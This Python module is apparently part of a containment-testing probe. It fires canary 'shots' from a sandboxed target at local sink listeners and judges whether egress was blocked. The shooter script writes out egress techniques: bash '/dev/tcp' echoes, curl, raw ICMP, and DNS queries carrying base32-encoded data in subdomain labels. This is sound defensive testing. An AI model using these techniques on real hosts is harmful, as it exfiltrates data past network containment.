"""Shots at canary sinks: the mechanism behind the network cases that only send traffic.

A shot is one attempt to send a fresh canary somewhere (TCP, UDP, DNS, ICMP, SCTP/DCCP, curl,
bash ``/dev/tcp``; or a reading such as the routing table) made by ``SHOOTER`` inside the target.
``run_shots`` fires a list of shots from the target, then the same shots with another canary from
the host control, and ``judge_shots`` turns the sink readings into a verdict: any hit on a sink
during the attack is a breach; a sink the control should reach and did not makes the case
INCONCLUSIVE; an attack that never reported is INCONCLUSIVE.

A case that is nothing but shots is one ``ShotsCase`` row: which canaries to open (``Canary``),
which shots to fire at which sink (``ShotRow``, aimed by sink key because sinks get random
ports), which sinks to judge. ``ShotsCase.check`` is the one helper that opens the canaries, aims
the shots, runs and judges them. The rows themselves live with their cases
(``contain.probe.cases_network.SHOTS_CASES``).

Not done here: choosing what counts as reachable (the rows do), sinks (``contain.probe.canaries``),
or any shot at an address off this host: every sink is on loopback, on a veth the probe created,
or in a network namespace the probe created.
"""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import enum
import time
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from contain.probe.canaries import (
    CanaryUnavailable,
    NetnsCanary,
    Sink,
    attack_source,
    decide,
    dns_canary,
    netns_canary,
    read_report,
    run_evidence,
    tcp_canary,
    udp_canary,
)
from contain.probe.case import AttackRun, CaseResult, Category, ProbeCase, ProbeContext, Verdict

__all__ = [
    "SHOOTER",
    "Canary",
    "ExtraJudge",
    "Shot",
    "ShotRow",
    "ShotsCase",
    "Spelling",
    "dns_label",
    "judge_shots",
    "run_shots",
    "timed",
    "unavailable",
]

# One shot per entry of P["shots"]; each is {"name", "kind", "host", "port", ...}.
SHOOTER = r"""
import base64, contextlib, struct, subprocess
C = P["canary"]
LABEL = base64.b32encode(C.encode()).decode().rstrip("=").lower()

def fam(h):
    return socket.AF_INET6 if ":" in h else socket.AF_INET

def dns_query(name, qtype):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    return os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + q + struct.pack("!HH", qtype, 1)

def shoot(s):
    k, h, p = s["kind"], s.get("host"), s.get("port")
    if k == "tcp":
        c = socket.socket(fam(h), socket.SOCK_STREAM); c.settimeout(2)
        c.connect((h, p)); c.sendall(("GET /?c=%s HTTP/1.1\r\nHost: x\r\n\r\n" % C).encode()); c.close(); return "sent"
    if k == "bash_tcp":
        r = subprocess.run(["bash", "-c", "echo %s > /dev/tcp/%s/%d" % (C, h, p)], capture_output=True, timeout=5)
        return r.returncode
    if k == "curl":
        url = "http://%s:%d/?c=%s" % (h if ":" not in h else "[" + h + "]", p, C)
        r = subprocess.run(["curl", "-sS", "--noproxy", "*", "-m", "3", url], capture_output=True, timeout=8)
        return [r.returncode, r.stderr[-200:]]
    if k == "udp":
        c = socket.socket(fam(h), socket.SOCK_DGRAM); c.sendto(C.encode(), (h, p)); c.close(); return "sent"
    if k == "dns":
        c = socket.socket(fam(h), socket.SOCK_DGRAM); c.settimeout(1.5)
        c.sendto(dns_query(LABEL + "." + P["zone"], s["qtype"]), (h, p))
        with contextlib.suppress(socket.timeout):
            return c.recv(512)[:4].hex()
        return "no answer"
    if k == "dns_tcp":
        q = dns_query(LABEL + "." + P["zone"], 16)
        c = socket.socket(fam(h), socket.SOCK_STREAM); c.settimeout(2); c.connect((h, p))
        c.sendall(struct.pack("!H", len(q)) + q); c.close(); return "sent"
    if k == "resolve":
        return [a[4][0] for a in socket.getaddrinfo(LABEL + "." + P["zone"], 80)]
    if k in ("ping", "raw_icmp"):
        kind = socket.SOCK_DGRAM if k == "ping" else socket.SOCK_RAW
        c = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        c.sendto(b"\x08\x00\x00\x00\x12\x34\x00\x01" + C.encode(), (h, 0)); c.close(); return "sent"
    if k in ("sctp", "dccp"):
        if k.upper() not in open("/proc/net/protocols").read().upper():
            return "protocol not registered in this kernel; not attempted"
        proto, kind = (132, socket.SOCK_STREAM) if k == "sctp" else (33, socket.SOCK_DCCP)
        c = socket.socket(socket.AF_INET, kind, proto); c.settimeout(2); c.connect((h, p)); return "connected"
    if k == "vsock":
        c = socket.socket(40, socket.SOCK_STREAM); c.close(); return "created"
    if k == "route":
        routes = open("/proc/net/route").read().splitlines()[1:]
        v6 = open("/proc/net/if_inet6").read() if os.path.exists("/proc/net/if_inet6") else ""
        default = [r.split()[0] for r in routes if r.split()[1] == "00000000"]
        links = {l.split()[5] for l in v6.splitlines() if l.split()[5] != "lo"}
        links = sorted(links | {r.split()[0] for r in routes if r.split()[0] != "lo"})
        return {"default_route_via": default, "non_loopback_interfaces": links}
    raise ValueError("unknown shot " + k)

for s in P["shots"]:
    rec(s["name"], shoot, s)
done()
"""


def dns_label(canary: str) -> str:
    """The DNS label a canary travels as (base32, lower case, no padding): fits in 63 bytes."""
    return base64.b32encode(canary.encode()).decode().rstrip("=").lower()


@dataclass(frozen=True)
class Shot:
    name: str
    kind: str
    host: str | None = None
    port: int | None = None
    qtype: int = 1
    control_reaches: bool = True  # the host control must land this one (False: host-only limits)

    def to_param(self) -> dict[str, Any]:
        return {"name": self.name, "kind": self.kind, "host": self.host, "port": self.port, "qtype": self.qtype}


def _shots_source(shots: Sequence[Shot], canary: str, zone: str) -> str:
    return attack_source(SHOOTER, canary=canary, zone=zone, shots=[s.to_param() for s in shots])


def _settle(sinks: Sequence[Sink]) -> None:
    for sink in sinks:
        sink.settle()


def judge_shots(
    case_id: str,
    *,
    attack_run: AttackRun,
    attack_canary: str,
    sinks: Sequence[Sink],
    attack_counts: Sequence[int],
    control_run: AttackRun | None,
    control_canary: str,
    control_sinks: Sequence[Sink],
    control_counts: Sequence[int],
    contained: str,
    extra_breaches: Sequence[str] = (),
    extra_failures: Sequence[str] = (),
) -> CaseResult:
    """The verdict for a shots case from sink readings.

    ``attack_counts[i]`` is how many hits ``sinks[i]`` had when the attack phase ended (the sinks
    start empty); ``control_counts[i]`` is the count of ``control_sinks[i]`` before the control.
    """
    breaches = list(extra_breaches)
    for sink, count in zip(sinks, attack_counts, strict=True):
        first = sink.hits()[:count]
        if count:
            carried = any(
                attack_canary.encode() in h.data or dns_label(attack_canary).encode() in h.data for h in first
            )
            breaches.append(
                f"{sink.kind} sink {sink.address} got {count} hit(s) during the attack"
                + (" with the canary" if carried else "")
            )
    failures = list(extra_failures)
    if control_run is not None:
        for sink, before in zip(control_sinks, control_counts, strict=True):
            new = sink.hits()[before:]
            needles = (control_canary.encode(), dns_label(control_canary).encode())
            landed = any(any(n in h.data for n in needles) for h in new) if sink.kind != "packet" else bool(new)
            if not landed:
                failures.append(f"control did not reach {sink.kind} sink {sink.address}")
    report = read_report(attack_run)
    missing = [] if report is not None else ["the attack never reported (did not run to completion)"]
    evidence: dict[str, Any] = {
        "attack": report,
        "attack_run": run_evidence(attack_run),
        "sinks": [s.evidence() for s in sinks],
    }
    if control_run is not None:
        evidence["control"] = read_report(control_run)
        evidence["control_run"] = run_evidence(control_run, limit=400)
    control_text = (
        f"host control reached {len(control_sinks) - len(failures)}/{len(control_sinks)} sinks"
        if control_run is not None
        else "no host control"
    )
    return decide(
        case_id,
        breaches=breaches,
        control_failures=failures,
        missing=missing,
        contained=contained,
        control=control_text,
        evidence=evidence,
    )


def run_shots(
    ctx: ProbeContext,
    case_id: str,
    shots: Sequence[Shot],
    sinks: Sequence[Sink],
    *,
    contained: str,
    boundary: dict[str, Any] | None = None,
    control_sinks: Sequence[Sink] | None = None,
    extra: Callable[[dict[str, Any] | None, dict[str, Any] | None], tuple[list[str], list[str]]] | None = None,
) -> CaseResult:
    zone = f"probe-{ctx.run_id}.test"
    attack_canary, control_canary = ctx.canary("ne"), ctx.canary("ctl")
    began = time.perf_counter()
    attack_run = ctx.target.run_python(_shots_source(shots, attack_canary, zone), timeout_s=40, boundary=boundary)
    _settle(sinks)
    attack_counts = [s.count() for s in sinks]
    reachable = list(control_sinks if control_sinks is not None else sinks)
    control_counts = [s.count() for s in reachable]
    control_shots = [s for s in shots if s.control_reaches]
    control_run = ctx.control.run_python(_shots_source(control_shots, control_canary, zone), timeout_s=40)
    _settle(reachable)
    extra_breaches, extra_failures = (
        extra(read_report(attack_run), read_report(control_run)) if extra is not None else ([], [])
    )
    result = judge_shots(
        case_id,
        attack_run=attack_run,
        attack_canary=attack_canary,
        sinks=sinks,
        attack_counts=attack_counts,
        control_run=control_run,
        control_canary=control_canary,
        control_sinks=reachable,
        control_counts=control_counts,
        contained=contained,
        extra_breaches=extra_breaches,
        extra_failures=extra_failures,
    )
    return timed(result, began)


def timed(result: CaseResult, began: float) -> CaseResult:
    return dataclasses.replace(result, duration_s=time.perf_counter() - began)


def unavailable(case_id: str, exc: CanaryUnavailable) -> CaseResult:
    return CaseResult(case_id, Verdict.INCONCLUSIVE, f"judge could not be set up: {exc}", {"cause": str(exc)})


# --- shots cases as table rows ------------------------------------------------------------------


class Canary(enum.Enum):
    """A canary a shots case opens; the value is the key of the sink it provides."""

    NETNS = "netns"  # netns_canary(): sinks netns.tcp, netns.udp, netns.dns (port 53), netns.packets
    LOOPBACK_TCP = "lo.tcp"  # tcp_canary() on the host's 127.0.0.1
    LOOPBACK6_TCP = "lo6.tcp"  # tcp_canary("::1")
    LOOPBACK_UDP = "lo.udp"  # udp_canary() on 127.0.0.1
    LOOPBACK_DNS = "lo.dns"  # dns_canary() on 127.0.0.1
    VETH_HOST_TCP = "veth.tcp"  # tcp_canary() on the host end of the netns veth (opens after NETNS)


_NETNS_SINKS = ("netns.tcp", "netns.udp", "netns.dns", "netns.packets")
_PORTLESS_KINDS = frozenset({"ping", "raw_icmp"})  # ICMP has no port


class Spelling(enum.Enum):
    """How a shot writes the sink's host address."""

    AS_IS = "as-is"
    V4MAPPED = "v4mapped"  # ::ffff:a.b.c.d: the IPv4 sink dialled through an IPv6 socket


@dataclass(frozen=True)
class ShotRow:
    """One shot of a row, aimed by sink key rather than by address (the sinks get random ports).

    ``at`` names the sink whose host and port the shot dials; ``host`` replaces the host with a
    literal name (the port stays the sink's); shots with no ``at`` dial nothing (resolve, route).
    """

    name: str
    kind: str
    at: str | None = None
    host: str | None = None
    spelling: Spelling = Spelling.AS_IS
    qtype: int = 1
    control_reaches: bool = True  # the host control must land this one (False: host-only limits)

    def aimed(self, sinks: Mapping[str, Sink]) -> Shot:
        if self.at is None:
            return Shot(self.name, self.kind, self.host, None, self.qtype, self.control_reaches)
        sink = sinks[self.at]
        host = self.host if self.host is not None else sink.host
        if self.spelling is Spelling.V4MAPPED:
            host = f"::ffff:{host}"
        port = None if self.kind in _PORTLESS_KINDS else sink.port
        return Shot(self.name, self.kind, host, port, self.qtype, self.control_reaches)


ExtraJudge = Callable[[dict[str, Any] | None, dict[str, Any] | None], tuple[list[str], list[str]]]


@dataclass(frozen=True)
class ShotsCase:
    """A case that is nothing but shots at canary sinks, judged by ``judge_shots``.

    ``canaries`` are opened in order (and closed in reverse); ``sinks`` are the keys of the
    sinks judged, in evidence order; ``extra_judge`` adds breaches/control failures read from
    the attack and control reports (``route_judge``).
    """

    id: str
    title: str
    expected: str
    canaries: tuple[Canary, ...]
    shots: tuple[ShotRow, ...]
    sinks: tuple[str, ...]
    contained: str
    extra_judge: ExtraJudge | None = None
    category: Category = Category.NE

    def sink_keys(self) -> tuple[str, ...]:
        """Every sink key the row's canaries provide."""
        keys: list[str] = []
        for canary in self.canaries:
            keys.extend(_NETNS_SINKS if canary is Canary.NETNS else (canary.value,))
        return tuple(keys)

    def check(self, ctx: ProbeContext) -> CaseResult:
        try:
            with contextlib.ExitStack() as stack:
                opened = _open_canaries(self.canaries, stack)
                return run_shots(
                    ctx,
                    self.id,
                    [shot.aimed(opened) for shot in self.shots],
                    [opened[key] for key in self.sinks],
                    contained=self.contained,
                    extra=self.extra_judge,
                )
        except CanaryUnavailable as exc:
            return unavailable(self.id, exc)

    def case(self) -> ProbeCase:
        return ProbeCase(self.id, self.category, self.title, self.expected, self.check)


def _open_canaries(canaries: Sequence[Canary], stack: contextlib.ExitStack) -> dict[str, Sink]:
    opened: dict[str, Sink] = {}
    netns: NetnsCanary | None = None
    for canary in canaries:
        if canary is Canary.NETNS:
            netns = stack.enter_context(netns_canary())
            opened.update(zip(_NETNS_SINKS, netns.sinks(), strict=True))
        elif canary is Canary.VETH_HOST_TCP:
            if netns is None:
                raise ValueError("Canary.VETH_HOST_TCP needs Canary.NETNS opened before it")
            opened[canary.value] = stack.enter_context(tcp_canary(netns.host_address))
        else:
            opened[canary.value] = stack.enter_context(_LOOPBACK_OPENERS[canary]())
    return opened


_LOOPBACK_OPENERS: dict[Canary, Callable[[], contextlib.AbstractContextManager[Sink]]] = {
    Canary.LOOPBACK_TCP: tcp_canary,
    Canary.LOOPBACK6_TCP: lambda: tcp_canary("::1"),
    Canary.LOOPBACK_UDP: udp_canary,
    Canary.LOOPBACK_DNS: dns_canary,
}
